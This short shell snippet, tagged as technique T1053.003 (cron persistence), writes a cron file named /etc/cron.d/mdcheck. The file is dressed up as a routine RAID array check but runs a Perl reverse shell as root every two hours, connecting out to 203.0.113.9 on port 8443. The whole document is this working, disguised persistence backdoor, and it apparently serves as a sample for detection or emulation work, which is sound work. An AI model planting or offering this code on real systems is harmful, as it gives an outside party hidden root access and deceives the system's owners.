# technique: T1053.003
# location: linux.cron.d
# source: /etc/cron.d/mdcheck
cat > /etc/cron.d/mdcheck <<'CRON'
# check of arrays
7 */2 * * * root perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(8443,inet_aton("203.0.113.9")));open(STDIN,">&S");open(STDOUT,">&S");exec "/bin/sh"'
CRON
